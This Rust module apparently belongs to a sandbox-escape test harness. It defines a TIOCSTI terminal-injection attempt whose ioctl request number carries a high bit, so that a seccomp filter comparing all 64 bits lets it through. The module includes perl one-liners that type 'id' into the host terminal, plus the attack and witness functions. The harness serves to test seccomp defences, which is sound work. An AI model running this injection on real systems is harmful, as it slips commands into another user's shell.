//! tty-inject-high-bits: the same request in a form that a careless filter does not know.

use super::{Attempt, Measured, Need};
use crate::attacker::Failed;
use crate::refusals::Refusal;
use crate::{Attacker, Host, Seen};
use nix::libc;

/// The attempt.
pub const ATTEMPT: Attempt = Attempt {
    id: "tty-inject-high-bits",
    stake: "The same as with tty-inject-own: the input of whoever reads from the terminal next.",
    story: "The kernel takes the request of ioctl(2) as 32 bits; a seccomp filter sees all 64 bits of the \
            register. The attacker sets a bit above the lower half: 0x100005412 is TIOCSTI for the kernel, and \
            some other number for a filter that compares 64 bits, so that it lets it pass. The filter must compare \
            what the kernel uses, the lower half alone.",
    by_hand: &[
        r#"script -qc "exec perl -e '\$SIG{HUP} = q(IGNORE); ioctl STDIN, 0x5422, 0; exec @ARGV' lab3-pivot rootfs /bin/sh" /dev/null    # on the host: a terminal that is nobody's"#,
        r#"setsid -c perl -e 'syscall(16, 2, 0x100005412, $_) for split //, "id\n"'    # x86-64; as with tty-inject-own"#,
    ],
    stopped_by: &["lab5-seccomp/tiocsti"],
    after: &["terminal", "tty-inject-own"],
    man: &["ioctl(2)", "ioctl_tty(2)", "seccomp(2)"],
    letters: Measured { root: "E EEEEEBB", user: "E EEEEEBB", rootless: "E EEEEEBB" },
    needs: &[Need::FreeTerminal],
    decisive: &[libc::SYS_ioctl],
    attack,
    class: Refusal::Terminal,
    witness,
};

/// TIOCSTI with a bit that the kernel does not look at.
const REQUEST: u64 = 1 << 32 | libc::TIOCSTI;

fn attack(me: &mut Attacker) -> Result<(), Failed> {
    let terminal = me.terminal()?;
    // It may be its own already.
    match me.type_mark(terminal, REQUEST) {
        Err(Failed::Refused(_)) => {}
        done => return done,
    }
    me.take_terminal(terminal)?;
    me.type_mark(terminal, REQUEST)
}

fn witness(host: &Host) -> Seen {
    if host.typed_mark() {
        return Seen::Effect("a line of the attacker's came in over the terminal as typed input".into());
    }
    Seen::Nothing
}
